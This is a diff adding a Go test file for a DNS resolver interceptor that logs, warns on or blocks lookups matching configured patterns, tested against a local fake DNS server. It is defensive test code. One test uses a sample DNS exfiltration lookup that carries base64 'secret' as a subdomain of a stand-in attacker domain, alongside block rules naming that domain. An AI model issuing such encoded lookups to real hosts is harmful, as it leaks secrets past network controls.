@@ -0,0 +1,178 @@
+package trusera
+
+import (
+	"context"
+	"encoding/binary"
+	"errors"
+	"net"
+	"sync"
+	"testing"
+)
+
+// fakeDNSServer answers A queries with 127.0.0.2 and records the names asked
+type fakeDNSServer struct {
+	conn  net.PacketConn
+	mu    sync.Mutex
+	names []string
+}
+
+func newFakeDNSServer(t *testing.T) *fakeDNSServer {
+	t.Helper()
+	conn, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("listen: %v", err)
+	}
+	t.Cleanup(func() { conn.Close() })
+
+	s := &fakeDNSServer{conn: conn}
+	go s.serve()
+	return s
+}
+
+func (s *fakeDNSServer) serve() {
+	buf := make([]byte, 1500)
+	for {
+		n, addr, err := s.conn.ReadFrom(buf)
+		if err != nil {
+			return
+		}
+		q, ok := parseDNSQuery(buf[:n])
+		if !ok {
+			continue
+		}
+		s.mu.Lock()
+		s.names = append(s.names, q.name)
+		s.mu.Unlock()
+
+		resp := make([]byte, 12, 64)
+		copy(resp, buf[:2])
+		resp[2], resp[3] = 0x81, 0x80
+		binary.BigEndian.PutUint16(resp[4:6], 1)
+		resp = append(resp, buf[12:q.qEnd]...)
+		if q.qtype == 1 {
+			binary.BigEndian.PutUint16(resp[6:8], 1)
+			resp = append(resp, 0xC0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 2)
+		}
+		s.conn.WriteTo(resp, addr)
+	}
+}
+
+func (s *fakeDNSServer) asked() []string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return append([]string(nil), s.names...)
+}
+
+// testResolver sends every query to the fake server
+func testResolver(client *Client, server *fakeDNSServer, opts InterceptorOptions) *net.Resolver {
+	dial := func(ctx context.Context, network, _ string) (net.Conn, error) {
+		return (&net.Dialer{}).DialContext(ctx, network, server.conn.LocalAddr().String())
+	}
+	return &net.Resolver{PreferGo: true, Dial: WrapResolverDial(dial, client, opts)}
+}
+
+func TestResolverRecordsLookups(t *testing.T) {
+	client := dialClient(t)
+	server := newFakeDNSServer(t)
+	resolver := testResolver(client, server, InterceptorOptions{Enforcement: ModeBlock, BlockPatterns: []string{"evil.test"}})
+
+	addrs, err := resolver.LookupHost(context.Background(), "api.allowed.test.")
+	if err != nil {
+		t.Fatalf("lookup failed: %v", err)
+	}
+	if len(addrs) != 1 || addrs[0] != "127.0.0.2" {
+		t.Errorf("expected 127.0.0.2, got %v", addrs)
+	}
+
+	event, ok := trackedEventWhere(client, func(e Event) bool {
+		return e.Name == "dns api.allowed.test" && e.Payload["query_type"] == "A"
+	})
+	if !ok {
+		t.Fatal("expected the A query to be tracked")
+	}
+	if event.Payload["enforcement_action"] != "allowed" || event.Payload["protocol"] != "dns" {
+		t.Errorf("unexpected payload %v", event.Payload)
+	}
+}
+
+func TestResolverBlocksExfiltration(t *testing.T) {
+	client := dialClient(t)
+	server := newFakeDNSServer(t)
+	resolver := testResolver(client, server, InterceptorOptions{
+		Enforcement: ModeLog,
+		Rules:       []Rule{{ID: "dns-exfil", Match: "evil.test", Action: RuleBlock, Severity: "critical"}},
+	})
+
+	_, err := resolver.LookupHost(context.Background(), "c2VjcmV0.evil.test.")
+	var dnsErr *net.DNSError
+	if !errors.As(err, &dnsErr) || !dnsErr.IsNotFound {
+		t.Fatalf("expected a not-found error, got %v", err)
+	}
+	for _, name := range server.asked() {
+		if name == "c2vjcmv0.evil.test" {
+			t.Fatal("a blocked query must not reach the DNS server")
+		}
+	}
+
+	event, ok := trackedEventWhere(client, func(e Event) bool { return e.Name == "dns c2vjcmv0.evil.test" })
+	if !ok {
+		t.Fatal("expected the blocked query to be tracked")
+	}
+	if event.Payload["rule_id"] != "dns-exfil" || event.Payload["enforcement_action"] != "blocked" {
+		t.Errorf("unexpected payload %v", event.Payload)
+	}
+}
+
+func TestResolverWarnModeResolves(t *testing.T) {
+	client := dialClient(t)
+	server := newFakeDNSServer(t)
+	resolver := testResolver(client, server, InterceptorOptions{Enforcement: ModeWarn, BlockPatterns: []string{"evil.test"}})
+
+	if _, err := resolver.LookupHost(context.Background(), "x.evil.test."); err != nil {
+		t.Fatalf("warn mode should resolve: %v", err)
+	}
+	event, _ := trackedEventWhere(client, func(e Event) bool { return e.Name == "dns x.evil.test" })
+	if event.Metadata["warning"] == nil {
+		t.Errorf("expected a warning, got %v", event.Metadata)
+	}
+}
+
+func TestStreamResolverConnAnswersBlockedQueries(t *testing.T) {
+	client := dialClient(t)
+	server, peer := net.Pipe()
+	defer peer.Close()
+
+	dial := WrapResolverDial(func(ctx context.Context, network, address string) (net.Conn, error) {
+		return server, nil
+	}, client, InterceptorOptions{Enforcement: ModeBlock, BlockPatterns: []string{"evil.test"}})
+	conn, err := dial(context.Background(), "tcp", "192.0.2.53:53")
+	if err != nil {
+		t.Fatalf("dial failed: %v", err)
+	}
+	if _, ok := conn.(net.PacketConn); ok {
+		t.Fatal("stream connections should not look like packet connections")
+	}
+
+	query := []byte{0xAB, 0xCD, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 4, 'e', 'v', 'i', 'l', 4, 't', 'e', 's', 't', 0, 0, 16, 0, 1}
+	framed := append(binary.BigEndian.AppendUint16(nil, uint16(len(query))), query...)
+	if n, err := conn.Write(framed); err != nil || n != len(framed) {
+		t.Fatalf("write: %d %v", n, err)
+	}
+
+	resp := make([]byte, 64)
+	n, err := conn.Read(resp)
+	if err != nil {
+		t.Fatalf("read: %v", err)
+	}
+	resp = resp[:n]
+	if int(binary.BigEndian.Uint16(resp)) != len(resp)-2 {
+		t.Fatalf("bad length prefix in %x", resp)
+	}
+	msg := resp[2:]
+	if msg[0] != 0xAB || msg[1] != 0xCD || msg[2]&0x80 == 0 || msg[3]&0x0F != 3 {
+		t.Errorf("expected an NXDOMAIN response with the query ID, got %x", msg)
+	}
+	if q, ok := parseDNSQuery(query); !ok || q.typeName() != "TXT" {
+		t.Errorf("expected a TXT query, got %+v", q)
+	}
+}